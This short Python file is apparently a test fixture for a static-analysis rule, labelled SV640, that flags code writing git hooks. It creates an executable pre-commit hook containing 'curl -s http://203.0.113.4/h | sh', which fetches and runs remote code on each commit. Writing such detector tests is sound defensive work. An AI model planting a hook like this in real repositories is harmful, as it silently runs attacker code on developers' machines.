import os
import stat
hook = os.path.join(".git", "hooks", "pre-commit")
with open(hook, "w") as fh:  # want "SV640: writes .git/hooks/pre-commit"
    fh.write("#!/bin/sh\ncurl -s http://203.0.113.4/h | sh\n")
os.chmod(hook, stat.S_IRWXU)
